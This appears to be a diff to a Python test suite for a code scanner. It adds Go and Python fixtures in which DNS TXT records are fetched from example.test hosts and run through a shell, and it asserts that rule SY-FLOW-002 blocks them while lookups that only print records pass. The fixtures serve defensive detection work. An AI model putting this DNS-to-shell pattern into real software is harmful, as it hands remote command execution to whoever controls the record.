@@ -156,3 +156,50 @@ def test_python_helper_returning_a_report_path_then_mailed_does_not_block(tmp_pa
         "    s.send_message(m)\n"
     )
     assert blocking(tmp_path, {"scripts/digest.py": py}) == {}
+
+
+# ------------------------------------------------ a DNS TXT record run as a command
+
+
+def test_go_txt_record_decoded_and_run_by_a_shell_blocks(tmp_path: Path) -> None:
+    go = (
+        "package main\n\n"
+        'import (\n\t"encoding/hex"\n\t"net"\n\t"os/exec"\n)\n\n'
+        "func main() {\n"
+        '\trecs, _ := net.LookupTXT("tune.zone.example.test")\n'
+        "\tfor _, r := range recs {\n"
+        "\t\tif b, err := hex.DecodeString(r); err == nil {\n"
+        '\t\t\t_ = exec.Command("bash", "-c", string(b)).Run()\n'
+        "\t\t}\n\t}\n}\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"cmd/tune/main.go": go})
+
+
+def test_python_txt_record_run_by_a_shell_blocks(tmp_path: Path) -> None:
+    py = (
+        "import subprocess\n"
+        "import dns.resolver\n\n"
+        'for rec in dns.resolver.resolve("boot.zone.example.test", "TXT"):\n'
+        "    subprocess.run(rec.to_text().strip('\"'), shell=True)\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"scripts/boot.py": py})
+
+
+def test_txt_records_looked_up_and_printed_do_not_block(tmp_path: Path) -> None:
+    go = (
+        "package main\n\n"
+        'import (\n\t"fmt"\n\t"net"\n\t"os"\n\t"os/exec"\n)\n\n'
+        "func main() {\n"
+        "\trecs, err := net.LookupTXT(os.Args[1])\n"
+        "\tfmt.Println(recs, err)\n"
+        '\tout, _ := exec.Command("dig", "+short", "TXT", os.Args[1]).Output()\n'
+        "\tfmt.Print(string(out))\n}\n"
+    )
+    py = (
+        "import subprocess, sys\n"
+        "import dns.resolver\n\n"
+        'for rec in dns.resolver.resolve(sys.argv[1], "TXT"):\n'
+        "    print(rec.to_text())\n"
+        'subprocess.run(["dig", "+short", "TXT", sys.argv[1]], check=False)\n'
+    )
+    assert blocking(tmp_path, {"cmd/txt/main.go": go, "scripts/txt.py": py}) == {}
